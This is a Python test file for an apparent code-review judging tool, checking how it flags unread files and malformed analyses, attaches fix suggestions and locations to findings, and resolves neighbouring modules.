def test_an_answer_that_is_none_of_ours_is_no_answer() -> None:
    for said in (b"", b"{", b"[]", b'{"files": 3}', b'{"files": [{"path": 1}]}', b'{"files": [{"path": "a"}]}'):
        verdict = judge(Facts((), PYTHON, parse(said)))
        assert [one.category for one in verdict.findings] == [Category.UNREAD]
        assert str(verdict.recommendation) == "review"


def test_a_file_of_which_nothing_was_told_is_named() -> None:
    told = Analysis((Read("a.py", "python"),))
    held = (File("a.py", 0o100644, 1, b"1"), File("b.py", 0o100644, 1, b"1"))
    assert [(one.file, one.category) for one in judge(Facts(held, PYTHON, told)).findings] == [
        ("b.py", Category.UNREAD)
    ]


def test_findings_say_how_to_mend_them(judged: Judge) -> None:
    found: tuple[Finding, ...] = judged({"main.py": (START + "print(df)\n").encode()}).findings
    assert "aggregate" in found[0].mend
    assert (found[0].place, "read in line 5" in found[0].why) == (f"main.py:{LINES + 1}", True)
    assert found[0].why in json.dumps(judged({"main.py": (START + "print(df)\n").encode()}).document())


def test_a_file_finds_its_neighbours_as_python_would(judged: Judge) -> None:
    """A script's own folder comes first, and a notebook is run in its own."""
    main = START + "from tools import total\nprint(total(df), open('../notes/n.txt').read())\n"
    files = {
        "code/main.py": main.encode(),
        "code/tools.py": b"def total(d):\n    return d.x.sum()\n",
        "notes/n.txt": b"x\n",
    }
    assert not judged(files, msgspec.structs.replace(PYTHON, run="python code/main.py")).findings
